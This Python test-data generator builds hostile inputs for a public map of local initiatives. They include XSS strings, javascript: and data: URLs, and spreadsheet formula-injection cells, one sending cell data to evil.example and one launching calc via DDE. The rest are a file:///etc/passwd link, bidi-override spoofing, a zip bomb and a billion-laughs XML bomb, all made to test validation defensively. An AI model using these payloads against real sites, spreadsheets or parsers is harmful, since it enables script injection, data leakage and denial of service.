"""Hostile inputs: files written by someone who wants the public map to run code or lie.

`.venv/bin/python tests/data/hostile/make_hostile.py` rewrites the small CSV files of this folder
(committed). The big or binary inputs (50 MB file, random bytes, truncated workbook, zip bomb,
wrong encodings, 100 000-character fields) are built by the `make_*` functions below inside each
test's tmp_path, never committed. Tests: tests/test_hostile.py, tests/e2e/test_hostile_browser.py.
"""

from __future__ import annotations

import csv
import io
import random
import zipfile
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).resolve().parent

# Markup and Markdown that would run code, load a remote resource or fake a link if some layer
# forgot to escape it. "evil.example" is a reserved name: a request for it never leaves the test.
SCRIPT = "<script>alert(1)</script>"
IMG_ONERROR = "<img src=x onerror=alert(1)>"
SVG_ONLOAD = '"><svg onload=alert(1)>'
MD_JS_LINK = "[clic](javascript:alert(1))"
MD_IMAGE = "![x](http://evil.example/x.png)"
HTML_LINK = '<a href="javascript:alert(1)">clic</a>'
END_SCRIPT = "</script><script>alert(1)</script>"
PAYLOADS: tuple[str, ...] = (
    SCRIPT,
    IMG_ONERROR,
    SVG_ONLOAD,
    MD_JS_LINK,
    MD_IMAGE,
    HTML_LINK,
    END_SCRIPT,
)
# Cells a spreadsheet would run (OWASP "CSV injection").
FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
)
RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: RLO + "fdp.exe" displays as "exe.pdf"

VALID_HEADER = (
    "id",
    "nom",
    "categorie",
    "description",
    "commune",
    "portee",
    "zone",
    "adresse",
    "latitude",
    "longitude",
    "site_web",
    "email",
    "telephone",
    "date_publication",
    "source",
)
# One row per payload, each in its own commune (distinct markers). The payload goes into every
# free-text column; structured columns keep valid values so that the file is published.
_COMMUNES = (
    ("Arras", "50.2910", "2.7775"),
    ("Calais", "50.9513", "1.8587"),
    ("Béthune", "50.5303", "2.6408"),
    ("Lens", "50.4320", "2.8333"),
    ("Saint-Omer", "50.7500", "2.2520"),
    ("Boulogne-sur-Mer", "50.7264", "1.6147"),
    ("Saint-Pol-sur-Ternoise", "50.3811", "2.3343"),
)


def valid_rows() -> list[dict[str, str]]:
    """Rows of balisage-valide.csv: hostile text that must be published and shown as text."""
    rows = []
    for index, (payload, (commune, lat, lon)) in enumerate(
        zip(PAYLOADS, _COMMUNES, strict=True), start=1
    ):
        rows.append(
            {
                "id": f"hostile-{index:02d}",
                "nom": f"Initiative {index} {payload}",
                "categorie": "protection",
                "description": f"Description {index} {payload}\nDeuxième ligne {payload}",
                "commune": commune,
                "portee": "secteur" if index % 2 else "commune",
                "zone": f"Zone {index} {payload}",
                "adresse": f"Adresse {index} {payload}",
                "latitude": lat,
                "longitude": lon,
                # Markup in a query string is legal: the link must be percent-encoded, not cut.
                "site_web": f"https://www.exemple.fr/?q={payload.replace(' ', '+')}"
                if index % 2
                else "",
                "email": f"contact{index}@exemple.fr",
                # Not a phone number: kept as text (with a warning), never made a tel: link.
                "telephone": payload,
                "date_publication": "2020-04-06",
                "source": f"Source {index} {payload}",
            }
        )
    rows.append(
        {
            "id": "hostile-formules",
            "nom": FORMULAS[0],
            "categorie": "isoles",
            "description": FORMULAS[1],
            "commune": "Hénin-Beaumont",
            "portee": "commune",
            "zone": "",
            "adresse": FORMULAS[2],
            "latitude": "",
            "longitude": "",
            "site_web": "",
            "email": "",
            "telephone": FORMULAS[3],
            "date_publication": "",
            "source": "=1+1",
        }
    )
    rows.append(
        {
            "id": "hostile-bidi",
            "nom": f"Facture {RLO}fdp.exe",
            "categorie": "confines",
            "description": "Texte\u200b invisible\u2066 et isolé\u2069",
            "commune": f"Bruay-la-Buissi{RLO}ère",
            "portee": "commune",
            "zone": "",
            "adresse": f"1 rue {RLO}ed ixuaB",
            "latitude": "",
            "longitude": "",
            "site_web": "",
            "email": "",
            "telephone": "",
            "date_publication": "",
            "source": "",
        }
    )
    return rows


# Values that must be refused, each in its own row: (column, value, fragment of the message).
REFUSED_LINKS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "   javascript:alert(1)",
    "jav&#x61;script:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "https://www.pas-de-calais.gouv.fr@evil.example/",
    'https://www.exemple.fr/"><svg onload=alert(1)>',
)
REFUSED_FIELDS: tuple[tuple[str, str, str], ...] = (
    ("id", SCRIPT, "identifiant invalide"),
    ("categorie", IMG_ONERROR, "catégorie inconnue"),
    ("portee", SVG_ONLOAD, "portée inconnue"),
    ("code_insee", MD_JS_LINK, "code INSEE mal formé"),
    ("email", f"x@exemple.fr{SCRIPT}", "adresse électronique mal formée"),
    ("email", "javascript:alert(1)//@exemple.fr", "adresse électronique mal formée"),
    ("commune", MD_IMAGE, "introuvable"),
    ("latitude", IMG_ONERROR, "ce n’est pas un nombre"),
    ("nom", "x" * 201, "texte trop long"),
)
# (latitude, longitude, column named, fragment of the message)
REFUSED_COORDINATES: tuple[tuple[str, str, str, str], ...] = (
    ("NaN", "NaN", "latitude", "ce n’est pas un nombre"),
    ("nan", "2.78", "latitude", "ce n’est pas un nombre"),
    ("inf", "2.78", "latitude", "ce n’est pas un nombre"),
    ("50.29", "-inf", "longitude", "ce n’est pas un nombre"),
    ("Infinity", "-Infinity", "latitude", "ce n’est pas un nombre"),
    ("1e308", "2.78", "latitude", "hors des valeurs possibles"),
    ("1e309", "2.78", "latitude", "ce n’est pas un nombre"),
    ("0", "0", "latitude", "hors du département 62"),
    ("48.85", "2.35", "latitude", "hors du département 62"),  # Paris
    ("91", "181", "latitude", "hors des valeurs possibles"),
    ("2.78", "50.29", "latitude", "semblent inversées"),
)


def refused_rows() -> list[dict[str, str]]:
    """Rows of champs-refuses.csv: every one has exactly one refused value."""
    base = {"nom": "", "categorie": "protection", "commune": "Arras"}
    rows = []
    for index, link in enumerate(REFUSED_LINKS, start=1):
        rows.append(base | {"id": f"lien-{index:02d}", "nom": f"Lien {index}", "site_web": link})
    for index, (column, value, _) in enumerate(REFUSED_FIELDS, start=1):
        row = base | {"id": f"champ-{index:02d}", "nom": f"Champ {index}"}
        if column == "latitude":
            row |= {"longitude": "2.78"}
        rows.append(row | {column: value})
    for index, (lat, lon, _, _) in enumerate(REFUSED_COORDINATES, start=1):
        rows.append(
            base
            | {"id": f"coord-{index:02d}", "nom": f"Point {index}", "latitude": lat}
            | {"longitude": lon}
        )
    return rows


REFUSED_HEADER = (
    "id",
    "nom",
    "categorie",
    "commune",
    "code_insee",
    "portee",
    "latitude",
    "longitude",
    "site_web",
    "email",
)


def expected_refusals() -> list[tuple[int, str, str, str]]:
    """(spreadsheet line, column, value, message fragment) of each row of champs-refuses.csv."""
    out: list[tuple[int, str, str, str]] = []
    line = 2
    for link in REFUSED_LINKS:
        out.append((line, "site_web", link, "adresse de site"))
        line += 1
    for column, value, fragment in REFUSED_FIELDS:
        out.append((line, column, value, fragment))
        line += 1
    for lat, lon, column, fragment in REFUSED_COORDINATES:
        # Syntax errors quote the cell; places outside the département quote the pair.
        if fragment in ("hors du département 62", "semblent inversées"):
            value = f"{lat}, {lon}"
        else:
            value = lat if column == "latitude" else lon
        out.append((line, column, value, fragment))
        line += 1
    return out


def csv_bytes(
    header: tuple[str, ...], rows: list[dict[str, str]], *, encoding: str = "utf-8"
) -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=header, lineterminator="\r\n", restval="")
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


# --- generated in tmp_path ---------------------------------------------------------------------


def make_big_csv(path: Path, *, size: int = 50 * 2**20) -> Path:
    """A well-formed CSV of `size` bytes or more (above the 20 MB limit)."""
    line = "Initiative très longue;protection;Arras;" + "x" * 400 + "\r\n"
    count = size // len(line.encode()) + 1
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write("nom;categorie;commune;description\r\n")
        for _ in range(count // 1000 + 1):
            handle.write(line * 1000)
    return path


def make_long_fields() -> bytes:
    """100 000 characters in each free-text column (one row per column)."""
    columns = ("nom", "description", "zone", "adresse", "source", "site_web", "telephone")
    rows = []
    for column in columns:
        row = {"nom": f"Long {column}", "categorie": "protection", "commune": "Arras"}
        filler = "https://www.exemple.fr/" + "a" * 99_977 if column == "site_web" else "é" * 100_000
        rows.append(row | {column: filler})
    header = ("nom", "categorie", "commune", *columns[1:])
    return csv_bytes(header, rows)


def make_binary_junk() -> bytes:
    """Random bytes (seeded), as a picture or an archive renamed .csv would give."""
    return random.Random(62).randbytes(64 * 1024)


def _workbook_bytes() -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = "Initiatives"
    sheet.append(["nom", "categorie", "commune"])
    for index in range(200):
        sheet.append([f"Initiative {index} {SCRIPT}", "protection", "Arras"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def make_truncated_xlsx() -> bytes:
    """A real workbook cut in the middle (an interrupted download)."""
    data = _workbook_bytes()
    return data[: len(data) // 2]


def make_zip_bomb_xlsx(*, inflated: int = 64 * 2**20) -> bytes:
    """A workbook whose sheet inflates to `inflated` bytes of padding from ~100 KB."""
    source = zipfile.ZipFile(io.BytesIO(_workbook_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as bomb:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                head, _, tail = data.partition(b"<sheetData>")
                data = head + b"<sheetData>" + b" " * inflated + tail
            bomb.writestr(info.filename, data, compresslevel=9)
    return out.getvalue()


def make_entity_bomb_xlsx() -> bytes:
    """A workbook whose sheet declares nested XML entities ("billion laughs": 10**9 "lol")."""
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    )
    source = zipfile.ZipFile(io.BytesIO(_workbook_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as bomb:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                assert data.startswith(b"<worksheet")  # openpyxl writes no XML declaration
                data = data.replace(b"<t>Initiative 0 ", b"<t>&lol9;Initiative 0 ", 1)
                data = b"<!DOCTYPE worksheet [" + entities.encode() + b"]>" + data
            bomb.writestr(info.filename, data)
    return out.getvalue()


def _small_table_text() -> str:
    return (
        "nom;categorie;commune;description\r\n"
        "Épicerie « Le Panier »;isoles;Guînes;Pâtes, œufs, soupes\r\n"
        "Visières 3D;protection;Béthune;Lycée d’Artois\r\n"
    )


def make_utf16_without_bom() -> bytes:
    return _small_table_text().encode("utf-16-le")


def make_invalid_utf8() -> bytes:
    """UTF-8 with stray cp1252 and invalid bytes in the middle (two files pasted together)."""
    text = _small_table_text().encode("utf-8")
    return text + "Brocante;isoles;Arras;Caf\xe9 offert\r\n".encode("latin-1") + b"\xff\xfe;\r\n"


def make_shift_jis() -> bytes:
    return ("nom;categorie;commune\r\n" + "炊き出し・弁当配布;isoles;Arras\r\n").encode("shift_jis")


def main() -> None:
    (HERE / "balisage-valide.csv").write_bytes(csv_bytes(VALID_HEADER, valid_rows()))
    (HERE / "champs-refuses.csv").write_bytes(csv_bytes(REFUSED_HEADER, refused_rows()))


if __name__ == "__main__":
    main()
